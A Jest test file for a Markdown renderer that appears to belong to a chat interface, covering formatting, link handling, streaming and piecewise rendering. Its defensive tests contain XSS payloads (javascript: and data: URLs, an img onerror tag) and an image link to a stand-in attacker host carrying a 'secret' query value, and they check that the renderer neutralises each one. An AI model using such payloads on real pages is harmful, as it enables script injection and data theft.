import { describe, expect, test } from '@jest/globals';
import { Markdown, PieceView } from './markdown.tsx';
import { htmlOf } from './testkit.tsx';

const html = (markdown: string, streaming = false) =>
  htmlOf(<Markdown streaming={streaming}>{markdown}</Markdown>);

describe('Markdown', () => {
  test('renders headings, lists, tables and code', async () => {
    const answer = await html('## Title\n\n- one\n\n| a |\n|---|\n| b |\n\n```ts\nconst x = 1;\n```');
    expect(answer).toMatch(/<h2[^>]*>Title<\/h2>/);
    expect(answer).toMatch(/<li[^>]*>one<\/li>/);
    expect(answer).toMatch(/<td[^>]*>b<\/td>/);
    expect(answer).toContain('<code>const x = 1;\n</code>');
  });

  test('opens links in a new tab without a referrer', async () => {
    expect(await html('[there](https://example.com/)')).toContain(
      '<a href="https://example.com/" target="_blank" rel="noopener noreferrer nofollow">there</a>',
    );
  });

  test.each(['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:x'])(
    'never links to %s',
    async (url) => {
      expect(await html(`[here](${url})`)).not.toContain('<a ');
    },
  );

  test.each([false, true])('shows HTML as text (streaming: %s)', async (streaming) => {
    const answer = await html(
      'A <img src=x onerror=alert(1)> <b>b</b>\n\n<script>alert(1)</script>',
      streaming,
    );
    expect(answer).not.toMatch(/<(img|script|b)[ >]/);
    expect(answer).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(answer).toContain('&lt;script&gt;');
  });

  test('links to images instead of loading them', async () => {
    const answer = await html('![a chart](https://evil.example/?q=secret)');
    expect(answer).not.toContain('<img');
    expect(answer).toMatch(/<a href="https:\/\/evil\.example\/\?q=secret"[^>]*>a chart<\/a>/);
  });

  test('closes unclosed marks of an answer in progress', async () => {
    expect(await html('This is **bo', true)).toMatch(/data-streamdown="strong"[^>]*>bo</);
  });

  test('renders pieces like the whole text', async () => {
    const section = (n: number) =>
      `## Part ${n}\n\nThe **server** keeps _each_ answer: \`chat.send\`, [a link](https://example.com/${n}), [another][docs], ~~gone~~.\nA second line.\n\n> A quote\n> - with a list\n\n1. one\n2. two\n   - nested\n\n     with a paragraph\n\n- [x] done\n- [ ] not done\n\n\`\`\`ts\nconst part = ${n};\n\n# not a heading\n\`\`\`\n\n| a | b |\n|:--|--:|\n| c | ${n} |\n\n    indented code\n\nTitle\n-----\n\n---\n`;
    const text = `${Array.from({ length: 20 }, (_, n) => section(n)).join('\n')}\n[docs]: https://example.com/docs\n`;
    const pieces = await html(text);
    const one = await htmlOf(<PieceView kind="markdown" text={text} streaming={false} />);
    const [wrapper = ''] = /^<div class="[^"]*">/.exec(one) ?? [];
    const joined = pieces
      .replace(/^<div[^>]*>/, '')
      .replace(/<\/div>$/, '')
      .replaceAll(`</div>${wrapper}`, '');
    const withoutBreaks = (text: string) => text.replace(/>\n+</g, '><');
    expect(pieces.split(wrapper).length).toBeGreaterThan(4);
    expect(withoutBreaks(joined)).toBe(withoutBreaks(one));
  });
});
